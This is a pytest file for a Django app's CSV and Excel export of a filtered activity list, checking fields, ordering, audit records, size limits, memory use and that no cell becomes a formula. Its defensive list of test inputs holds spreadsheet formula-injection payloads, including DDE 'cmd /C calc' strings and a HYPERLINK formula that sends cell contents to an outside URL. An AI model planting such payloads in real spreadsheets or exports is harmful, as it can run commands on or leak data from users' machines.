"""The list taken out as CSV and as an Excel file: exactly what is filtered, and nothing that a spreadsheet runs."""

import csv
import datetime
import io
import re
import tracemalloc
import zipfile
from xml.etree import ElementTree

import pytest
from django.test import Client
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from big.exporting import MAX_CELL
from big.people.models import Event, Organisation
from reports import exporting
from reports.models import Activity, Area
from tests.factories import create_activity

CSV, XLSX = "/insatser/insatser.csv", "/insatser/insatser.xlsx"
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SIGNS = "=+-@|%\t\r\n＝＋－＠"
ATTACKS = [f"{sign}cmd|' /C calc'!A0" for sign in SIGNS]
ATTACKS += ['=HYPERLINK("http://example.org?x="&A1;"Klicka")', " =1+1", "\u00a0=1+1", "\t=1+1", "\r\n=1+1", '"=1+1']
ATTACKS += ["=1+1;=2+2", "-2+3+cmd", "@SUM(1+9)", '=DDE("cmd";"/C calc";"x")', "{=1+1}", "'=1+1", "\ufeff=1+1"]


def csv_rows(client: Client, query: str = "") -> list[dict[str, str]]:
    data = b"".join(client.get(f"{CSV}?{query}").streaming_content).decode("utf-8")
    assert data.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(data[1:], newline=""), delimiter=";"))


def sheet_cells(data: bytes) -> list[ElementTree.Element]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert "xl/externalLinks" not in " ".join(book.namelist())
        return list(ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml")).iter(f"{SHEET}c"))  # noqa: S314 (our own)


def xlsx_rows(client: Client, query: str = "") -> list[dict[str, str]]:
    """By heading, what each cell of each row holds; dates are the numbers that Excel keeps."""
    rows: dict[int, dict[str, str]] = {}
    for cell in sheet_cells(b"".join(client.get(f"{XLSX}?{query}").streaming_content)):
        column, row = re.fullmatch(r"([A-Z]+)(\d+)", cell.get("r")).groups()
        rows.setdefault(int(row), {})[column] = "".join(cell.itertext())
    headings = rows.pop(1)
    return [{headings[column]: text for column, text in row.items()} for row in rows.values()]


@pytest.fixture
def full(secretary) -> Activity:
    """An activity with everything."""
    activity = create_activity(
        by=secretary,
        text="Vi höll en kväll; med åäö.\nPå två rader.",
        participants=20,
        participants_qualifier="more_than",
        note="Ring rektorn.",
        also_area=Area.objects.get(name="Gävlemodellen"),
    )
    activity.partners.add(Organisation.objects.create(name="Östra skolan"), Organisation.objects.create(name="Ala IF"))
    return activity


def test_csv_has_every_field(as_secretary, full):
    (row,) = csv_rows(as_secretary)
    assert list(row) == exporting.HEADINGS
    assert row["Text"] == full.text
    assert row["Samarbetspartner"] == "Ala IF, Östra skolan"
    assert (row["Antal deltagare"], row["Hur säkert"]) == ("20", "drygt")
    assert row["Intern anteckning"] == "Ring rektorn."
    assert (row["Från och med"], row["Till och med"]) == ("2026-03-02", "2026-03-02")
    assert row["Antecknad av"] == "Tora Hallén"
    answer = as_secretary.get(CSV)
    assert answer["Content-Disposition"] == 'attachment; filename="insatser.csv"'
    assert answer["Cache-Control"] == "private, no-store"


def test_xlsx_has_the_same_with_real_dates(as_secretary, full):
    (row,) = xlsx_rows(as_secretary)
    assert row["Text"] == full.text
    assert row["Antal deltagare"] == "20"
    days_since_1899 = (datetime.date(2026, 3, 2) - datetime.date(1899, 12, 30)).days
    assert row["Från och med"] == str(days_since_1899)
    assert row["Intern anteckning"] == "Ring rektorn."


@pytest.mark.parametrize("rows_of", [csv_rows, xlsx_rows])
def test_exactly_the_filtered_list_in_its_order(as_secretary, secretary, rows_of):
    area = Area.objects.get(name="Övrigt")
    common = {"area": area, "created_by": secretary, "listed_on": datetime.date(2026, 3, 2)}
    Activity.objects.bulk_create(Activity(text=f"Nummer {n}.", status="completed", **common) for n in range(120))
    Activity.objects.bulk_create([Activity(text="Planerad.", status="planned", **common)])
    gone = {"deleted_at": datetime.datetime.now(datetime.UTC), "deleted_by": secretary}
    create_activity(by=secretary, text="Borttagen.", **gone)
    found = rows_of(as_secretary, "status=completed&older_than=2026-03-02.5")
    assert [row["Text"] for row in found] == [f"Nummer {n}." for n in reversed(range(120))]
    assert len(rows_of(as_secretary)) == 121


def test_the_links_keep_the_filters_and_leave_the_page(as_secretary, full):
    page = as_secretary.get("/insatser/?status=completed&older_than=2027-01-01.1").text
    assert 'href="/insatser/insatser.csv?status=completed"' in page
    assert 'href="/insatser/insatser.xlsx?status=completed"' in page


def test_taking_out_is_recorded(as_secretary, secretary, full):
    csv_rows(as_secretary)
    xlsx_rows(as_secretary)
    said = [str(event) for event in Event.objects.filter(act="exported").order_by("pk")]
    assert said == ["Tora Hallén tog ut insatser: CSV.", "Tora Hallén tog ut insatser: Excel."]


def test_more_rows_than_a_sheet_holds_are_refused(as_secretary, full, secretary, monkeypatch):
    monkeypatch.setattr(exporting, "MAX_SHEET_ROWS", 1)
    create_activity(by=secretary)
    answer = as_secretary.get(f"{XLSX}?status=completed", follow=True)
    assert answer.redirect_chain == [("/insatser/?status=completed", 302)]
    assert "fler än ett Excelblad rymmer" in answer.text


def test_a_text_longer_than_a_cell_is_cut_and_says_so(as_secretary, secretary):
    create_activity(by=secretary, text="x" * 40_000)
    (row,) = xlsx_rows(as_secretary)
    assert len(row["Text"]) == MAX_CELL
    assert row["Text"].endswith("hela texten finns i CSV-filen)")
    assert len(csv_rows(as_secretary)[0]["Text"]) == 40_000


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula(as_secretary, secretary, attack):
    activity = create_activity(by=secretary, text=attack, note=attack, when=attack)
    activity.partners.add(Organisation.objects.create(name=attack))
    harmless(as_secretary, attack)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.builds(
        "".join,
        st.tuples(
            st.text("".join((SIGNS, " \"';\u00a0")), min_size=1, max_size=4),
            st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20),
        ),
    ).filter(str.strip)
)
@example("=1")
def test_no_text_becomes_a_formula(as_secretary, secretary, text):
    Activity.objects.all().delete()
    create_activity(by=secretary, text=text, note=text)
    harmless(as_secretary, text)


def harmless(client: Client, text: str) -> None:
    """In CSV no cell begins as a formula; in the sheet no cell is one, and each text is all there."""
    (row,) = csv_rows(client)
    for cell in row.values():
        assert not cell.startswith(tuple("=+-@|%\t\r\n")) or re.fullmatch(r"-?[0-9,.]+", cell)
    data = b"".join(client.get(XLSX).streaming_content)
    for cell in sheet_cells(data):
        assert cell.find(f"{SHEET}f") is None
        assert cell.get("t") in ("inlineStr", None)
        assert cell.get("t") or re.fullmatch(r"-?[0-9.]*", "".join(cell.itertext()))


def test_many_rows_take_little_memory(as_secretary, secretary, monkeypatch):
    monkeypatch.setattr(exporting, "AT_A_TIME", 100)
    area = Area.objects.get(name="Övrigt")
    common = {"area": area, "status": "completed", "created_by": secretary, "listed_on": datetime.date(2026, 3, 2)}

    def peak(number: int) -> int:
        Activity.objects.bulk_create(Activity(text="x" * 2000, **common) for _ in range(number))
        tracemalloc.start()
        for address in (CSV, XLSX):
            for _ in as_secretary.get(address).streaming_content:
                pass
        taken = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return taken

    few = peak(300)
    assert peak(3000) < 2 * few
